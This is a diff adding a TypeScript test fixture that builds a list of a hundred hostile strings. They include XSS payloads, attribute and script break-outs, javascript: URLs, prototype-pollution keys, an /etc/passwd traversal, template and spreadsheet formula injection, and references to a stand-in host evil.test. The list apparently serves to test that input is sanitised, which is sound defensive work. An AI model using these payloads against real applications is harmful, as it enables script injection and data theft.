@@ -1,0 +1,125 @@
+/**
+ * A hundred texts that try to become something else than text: markup, addresses, templates, breaks out of an attribute
+ * or a script, tricks of encoding. Each that ran would call `hacked()`; each that became an element would bear the mark
+ * `data-hostile` or load something from a host of its own. Kept short, so that they fit names of 60 letters.
+ */
+const EVENTS = [
+  'onload',
+  'onerror',
+  'onfocus',
+  'onmouseover',
+  'ontoggle',
+  'onbegin',
+  'onpointerenter',
+  'onanimationend',
+];
+const TAGS = [
+  'svg',
+  'body',
+  'details open',
+  'input autofocus',
+  'video',
+  'marquee',
+  'iframe',
+  'object',
+  'math',
+  'select',
+];
+
+const MARKUP = [
+  '<script>hacked()</script>',
+  '<script src=//evil.test/x.js></script>',
+  '<SCRIPT>hacked()</SCRIPT>',
+  '<scr<script>ipt>hacked()</scr</script>ipt>',
+  '<script data-hostile>hacked()',
+  '</script><script>hacked()</script>',
+  '</title><script>hacked()</script>',
+  '</style><script>hacked()</script>',
+  '</textarea><script>hacked()</script>',
+  '--><script>hacked()</script>',
+  ']]><script>hacked()</script>',
+  '<img src=x onerror=hacked()>',
+  '<img src=x onerror="hacked()" data-hostile>',
+  "<img src='x'onerror='hacked()'>",
+  '<img/src=x/onerror=hacked()>',
+  '<img src=//evil.test/pixel.gif>',
+  '<img src=`x`onerror=hacked()>',
+  '<image href=//evil.test/a.png>',
+  '<a href="javascript:hacked()" data-hostile>x</a>',
+  '<a href="jAvAsCrIpT:hacked()">x</a>',
+  '<a href="java\tscript:hacked()">x</a>',
+  '<a href="&#106;avascript:hacked()">x</a>',
+  '<form action=//evil.test><input type=submit>',
+  '<button formaction=javascript:hacked()>x</button>',
+  '<iframe src=javascript:hacked()></iframe>',
+  '<iframe srcdoc="<script>hacked()</script>">',
+  '<embed src=//evil.test/x.swf>',
+  '<link rel=stylesheet href=//evil.test/x.css>',
+  '<meta http-equiv=refresh content="0;//evil.test">',
+  '<base href=//evil.test/>',
+  '<style>@import "//evil.test/x.css"</style>',
+  '<div style="background:url(//evil.test/x)" data-hostile>',
+  '<table background=//evil.test/x>',
+  '<svg><animate onbegin=hacked() attributeName=x>',
+  '<svg><use href="data:image/svg+xml,x#x"></use></svg>',
+  '<math><mtext><script>hacked()</script></mtext></math>',
+  '<noscript><p title="</noscript><img src=x onerror=hacked()>',
+  '<template><script>hacked()</script></template>',
+  '<!--<img src="--><img src=x onerror=hacked()>',
+  '<plaintext data-hostile>',
+];
+const BREAKS = [
+  '"><script>hacked()</script>',
+  "'><script>hacked()</script>",
+  '" onmouseover="hacked()',
+  "' onfocus='hacked()' autofocus='",
+  '" style="animation:x" onanimationstart="hacked()',
+  "');hacked();//",
+  '");hacked();//',
+  '";hacked();//',
+  "\\';hacked();//",
+  'x\u2028hacked()//',
+  '{"__proto__":{"x":1}}',
+  '__proto__',
+  'constructor.prototype.x',
+];
+const ADDRESSES = [
+  'javascript:hacked()',
+  'javascript://%0ahacked()',
+  'data:text/html,<script>hacked()</script>',
+  'vbscript:hacked()',
+  '//evil.test/%2f..',
+  'https://evil.test@127.0.0.1/',
+  '../../../etc/passwd',
+  '?q=<script>hacked()</script>',
+  '#<img src=x onerror=hacked()>',
+];
+const TEMPLATES = [
+  '{{constructor.constructor("hacked()")()}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is a text that looks like a template
+  '${hacked()}',
+  '<%= hacked() %>',
+  '#{hacked()}',
+  '{%raw%}hacked(){%endraw%}',
+  '[[hacked()]]',
+  '%3Cscript%3Ehacked()%3C/script%3E',
+  '&lt;script&gt;hacked()&lt;/script&gt;',
+  '&#60;script&#62;hacked()&#60;/script&#62;',
+  '\\u003cscript\\u003ehacked()\\u003c/script\\u003e',
+  '+ADw-script+AD4-hacked()+ADw-/script+AD4-',
+  '＜script＞hacked()＜/script＞',
+  '=HYPERLINK("//evil.test","x")',
+  '@SUM(1+1)*cmd|x',
+  '-2+3+hacked()',
+  '<\u200bscript>hacked()</script>',
+  '\u202e>tpircs/<)(dekcah>tpircs<',
+  '<b data-hostile>negrita</b>',
+  '**<u data-hostile>x</u>**',
+  '![x](//evil.test/x.png)',
+  '[x](javascript:hacked())',
+];
+
+const made = TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}=hacked() data-hostile>`));
+
+/** Exactly a hundred, all different, none empty, none with a blank at its end. */
+export const HOSTILE: readonly string[] = [...MARKUP, ...BREAKS, ...ADDRESSES, ...TEMPLATES, ...made].slice(0, 100);
